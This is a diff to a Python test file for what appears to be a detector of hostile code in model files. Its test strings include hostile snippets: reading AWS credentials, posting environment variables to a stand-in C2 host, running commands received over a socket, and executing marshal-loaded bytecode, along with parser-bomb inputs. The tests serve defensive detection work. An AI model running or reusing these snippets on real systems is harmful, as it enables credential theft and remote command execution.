@@ -143,6 +143,7 @@ def test_embedded_pickles_are_read():
         ("import os\nprint(open(os.path.expanduser('~/.aws/credentials')).read())", Severity.HIGH),
         ("import os, requests\ndef f():\n    requests.post('http://c2.invalid', json=dict(os.environ))", Severity.HIGH),
         ("import subprocess\nsubprocess.run(['install-things', '--all'])", Severity.HIGH),
+        ("import socket, os\ndef f():\n    s = socket.socket()\n    os.system(s.recv(999).decode())", Severity.HIGH),
         ("import marshal\nexec(marshal.loads(b'\\xe3' + b'x' * 40))", Severity.CRITICAL),
     ],
 )
@@ -161,6 +162,9 @@ def test_hostile_code(text, severity):
         "import os\nif __name__ == '__main__':\n    os.system('rm build.log')",
         "import requests\ndef page(url): return requests.get(url).json()",
         "namespace = {}\nexec('x = 1', namespace)",
+        "import subprocess\nsubprocess.check_output(['git', '--git-dir=.git', 'describe', '--abbrev=7'])",
+        "import socket, subprocess\ndef f():\n    s = socket.socket()\n    subprocess.run(['serve', str(s.getsockname()[1])])",
+        "import marshal, codecs as c, types\ndef load(x): return types.FunctionType(marshal.loads(c.decode(x, 'base64')), {})",
         "import ctypes\nlib = ctypes.CDLL('libc.so.6')",
         "import os\nopen(os.path.expanduser('~/.bashrc')).read()",
         "import torch\nclass M(torch.nn.Module):\n    def forward(self, x): return eval('x + 1')",
@@ -195,6 +199,10 @@ def test_configurations(files):
 
 
 BOMBS = {
+    "nested containers": "x = []\n" + "x = [x]\n" * 3000 + "import os\nos.popen(x)\n",
+    "appending": "l = []\n" + "l.append(1)\n" * 20_000,
+    "long lists": "x = [" + "1," * 100_000 + "]\n" + "y = x + x\nbytes(x)\nx[::-1]\n" * 2000,
+    "nested text": "x = 'a'\n" + "x = (x, 'b')\n" * 3000 + "'%s' % x\n",
     "parentheses": "(" * 1_000_000,
     "closed": "(" * 190 + ")" * 190,
     "minus": "-" * 300_000 + "1",
